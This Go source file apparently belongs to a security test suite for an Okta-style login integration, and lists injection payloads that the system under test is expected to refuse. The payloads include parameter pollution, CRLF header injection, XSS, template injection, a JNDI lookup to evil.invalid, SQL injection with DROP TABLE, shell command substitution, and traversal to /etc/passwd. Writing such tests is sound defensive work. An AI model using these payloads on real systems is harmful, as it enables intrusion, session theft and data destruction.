package mutate

import (
	"slices"
	"strings"
)

// Hint is a text that an SP passes on to Okta, or shows.
type Hint struct {
	Value
	Kind string
	Text string
}

// Evaluated is what stands in a hint that was taken for a template, and in no hint.
const Evaluated = "1787569"

// Hints makes texts that are dangerous where one is joined to an address, a header, a page, a query
// of a database or a template. Each must be one value wherever it goes.
func Hints() []Hint {
	return slices.Concat(parameterHints(), headerHints(), pageHints(), codeHints(), unusualHints())
}

func hint(kind string, depth Depth, name, says, text string) Hint {
	return Hint{Value{Name: name, Says: says, Outcome: Refused, Depth: depth}, kind, text}
}

// parameterHints end a parameter, and begin others.
func parameterHints() []Hint {
	of := func(depth Depth, name, says, text string) Hint { return hint("parameters", depth, name, says, text) }
	return []Hint{
		of(Standard, "redirect-uri", "a redirect URI behind an ampersand", "x&redirect_uri=http://evil.invalid/"),
		of(Standard, "response-type", "a response type behind an ampersand", "x&response_type=token"),
		of(Deep, "prompt", "a prompt behind an ampersand", "x&prompt=none"),
		of(Deep, "scope", "a scope behind an ampersand", "x&scope=openid%20offline_access"),
		of(Standard, "encoded-parameter", "a parameter behind an encoded ampersand", "x%26client_id%3Devil"),
		of(Standard, "twice-encoded-parameter", "a parameter behind an ampersand that is encoded twice", "x%2526client_id%253Devil"),
		of(Deep, "semicolon-parameter", "a parameter behind a semicolon", "x;client_id=evil"),
		of(Deep, "state", "a state behind an ampersand", "x&state=evil&nonce=evil"),
		of(Standard, "hash", "a hash", "x#evil"),
		of(Deep, "encoded-hash", "an encoded hash", "x%23evil"),
		of(Deep, "question", "a question mark", "x?client_id=evil"),
		of(Deep, "plus", "plus signs", "a+b+c"),
		of(Deep, "percent", "percent signs that encode nothing", "100% %zz %"),
		of(Deep, "equals", "equals signs", "a=b=c"),
	}
}

// headerHints end a header, and begin others.
func headerHints() []Hint {
	of := func(depth Depth, name, says, end string) Hint {
		return hint("headers", depth, name, says, "x"+end+"X-Injected: 1"+end+"Set-Cookie: evil=1")
	}
	return []Hint{
		of(Standard, "line-feed", "a line feed and headers", "\n"),
		of(Deep, "carriage-return", "a carriage return and headers", "\r"),
		of(Standard, "encoded-line-end", "an encoded line end and headers", "%0d%0a"),
		of(Deep, "twice-encoded-line-end", "a line end that is encoded twice and headers", "%250d%250a"),
		of(Standard, "unicode-line-end", "headers behind letters that end in the bytes of a line end", "\u560d\u560a"),
		of(Deep, "line-separator", "a line separator of Unicode and headers", "\u2028"),
		of(Deep, "next-line", "a next line of Unicode and headers", "\u0085"),
		hint("headers", Deep, "body", "a line end and a page", "x\r\n\r\n<html><script>alert(1)</script>"),
	}
}

// pageHints end an attribute or a text of a page.
func pageHints() []Hint {
	of := func(depth Depth, name, says, text string) Hint { return hint("pages", depth, name, says, text) }
	return []Hint{
		of(Standard, "script", "a script", "<script>alert(1)</script>"),
		of(Standard, "attribute", "the end of an attribute", `"><img src=x onerror=alert(1)>`),
		of(Deep, "attribute-single", "the end of an attribute in single quotation marks", `'><img src=x onerror=alert(1)>`),
		of(Deep, "attribute-event", "an attribute that runs a script", `" autofocus onfocus=alert(1) x="`),
		of(Deep, "entities", "HTML entities", "&lt;script&gt;alert(1)&lt;/script&gt;"),
		of(Deep, "script-end", "the end of a script", `</script><script>alert(1)</script>`),
		of(Deep, "javascript", "an address that is a script", "javascript:alert(1)"),
	}
}

// codeHints are commands for what may read a hint.
func codeHints() []Hint {
	of := func(depth Depth, name, says, text string) Hint { return hint("code", depth, name, says, text) }
	return []Hint{
		of(Standard, "template-braces", "a template in braces", "{{1337*1337}}"),
		of(Standard, "template-dollar", "a template with a dollar sign", "${1337*1337}"),
		of(Deep, "template-hash", "a template with a hash", "#{1337*1337}"),
		of(Deep, "template-percent", "a template with percent signs", "<%= 1337*1337 %>"),
		of(Deep, "template-star", "a template with an asterisk", "*{1337*1337}"),
		of(Deep, "lookup", "a lookup of a log", "${jndi:ldap://evil.invalid/a}"),
		of(Standard, "sql-single", "a single quotation mark and SQL", "x' OR '1'='1"),
		of(Deep, "sql-double", "a double quotation mark and SQL", `x" OR "1"="1`),
		of(Deep, "sql-comment", "SQL and a comment", "x'; DROP TABLE users; --"),
		of(Deep, "ldap", "a filter of LDAP", "*)(uid=*))(|(uid=*"),
		of(Deep, "shell", "a command of a shell", "x; $(id) `id` | id"),
		of(Deep, "path", "a path that goes back", "../../../../etc/passwd"),
		of(Deep, "format", "a format", "%s%n%d{0}"),
		of(Deep, "json", "the end of a JSON text", `x","client_id":"evil`),
	}
}

// unusualHints are of a length or of characters that nobody expects.
func unusualHints() []Hint {
	of := func(depth Depth, name, says, text string) Hint { return hint("characters", depth, name, says, text) }
	return []Hint{
		of(Standard, "nul", "a NUL", "x\x00evil"),
		of(Deep, "encoded-nul", "an encoded NUL", "x%00evil"),
		of(Deep, "controls", "control characters", "x\x01\x08\x1b[31m\x7f"),
		of(Standard, "unicode", "letters that are not ASCII", "jörg@例え.example"),
		of(Deep, "right-to-left", "a mark that turns the direction of letters", "x\u202eevil"),
		of(Deep, "zero-width", "a space of no width", "x\u200bevil"),
		of(Deep, "full-width", "full-width characters, which a normal form makes others", "x\uff06client_id\uff1devil"),
		of(Deep, "surrogate", "a letter beyond 16 bits", "\U0001f600@example.com"),
		of(Deep, "no-utf-8", "bytes that are no UTF-8", "x\xff\xfe\xc0\xafevil"),
		of(Deep, "spaces", "spaces around it", "  x  "),
		of(Deep, "long-words", "2048 letters that are not ASCII", strings.Repeat("ö", 2048)),
	}
}
